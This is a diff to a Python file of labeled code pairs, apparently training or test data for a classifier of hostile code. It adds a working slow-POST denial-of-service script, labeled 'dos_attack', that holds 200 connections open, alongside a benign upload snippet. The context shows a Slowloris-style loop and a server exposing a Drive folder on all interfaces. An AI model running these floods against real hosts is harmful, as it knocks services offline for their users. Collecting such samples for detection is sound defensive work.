@@ -71,6 +71,15 @@ PAIRS = [
      "        c.send(('X-r: %d\\r\\n' % random.randint(1, 9)).encode())\n    time.sleep(12)",
      "import socket\nc = socket.create_connection(('example.org', 80))\n"
      "c.send(b'GET / HTTP/1.1\\r\\nHost: example.org\\r\\n\\r\\n')\nprint(c.recv(1000))"),
+    ("flood: slow POST, the request kept in a variable", "dos_attack",
+     "import socket, threading, time\nbody = ('POST /login HTTP/1.1\\r\\nHost: %s\\r\\nContent-Length: 100000000\\r\\n\\r\\n' % host)\n"
+     "held = []\ndef open_many():\n    for i in range(200):\n        s = socket.socket()\n        s.connect((host, 80))\n"
+     "        s.send(bytes(body, 'utf-8'))\n        held.append(s)\n        time.sleep(0.5)\n"
+     "threading.Thread(target=open_many).start()",
+     "import socket, threading, time\nbody = ('POST /upload HTTP/1.1\\r\\nHost: %s\\r\\nContent-Length: 512\\r\\n\\r\\n' % host)\n"
+     "def upload():\n    for i in range(3):\n        s = socket.socket()\n        s.connect((host, 80))\n"
+     "        s.send(bytes(body, 'utf-8') + payload)\n        print(s.recv(4096))\n        time.sleep(0.5)\n"
+     "threading.Thread(target=upload).start()"),
     ("server: files on every interface", "web_file_hosting",
      "from fastapi import FastAPI\nfrom fastapi.staticfiles import StaticFiles\nimport uvicorn\napp = FastAPI()\n"
      "app.mount('/dl', StaticFiles(directory='/content/drive/MyDrive'), name='dl')\nuvicorn.run(app, host='0.0.0.0', port=80)",
